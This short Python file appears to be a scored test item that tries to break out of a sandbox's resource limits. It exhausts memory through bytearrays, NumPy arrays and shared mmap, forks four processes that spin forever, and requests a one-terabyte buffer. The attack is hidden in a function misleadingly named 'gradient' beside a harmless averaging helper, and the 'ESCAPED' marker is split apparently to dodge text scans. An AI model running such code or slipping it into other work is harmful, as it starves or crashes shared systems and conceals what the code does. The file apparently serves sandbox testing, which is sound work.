# Tries: to take all memory: in Python, in NumPy, by maps that are shared, in many processes.
# Worked: ESCAPED, where it got more than 4 GiB; or the machine swaps.
# worth: 40
# waits: 1
import mmap
import os

import numpy as np


def take(most=100):
    """How many pieces of 64 MiB it could touch."""
    held = []
    for make in (bytearray, lambda size: np.ones(size // 8), lambda size: mmap.mmap(-1, size)):
        try:
            while len(held) < most:
                held.append(make(64 << 20))
                if isinstance(held[-1], mmap.mmap):
                    held[-1].write(b"x" * (1 << 20))
        except (MemoryError, OSError, ValueError):
            pass
    return len(held)


def gradient(steps, values, rules):
    try:
        for _ in range(4):
            if os.fork() == 0:
                take()
                while True:
                    pass
    except OSError:
        pass
    if take() > 64:
        print("ESC" "APED: more than 4 GiB")
    return bytearray(10 ** 12)


def average(rows):
    return [sum(row) / len(row) for row in rows]
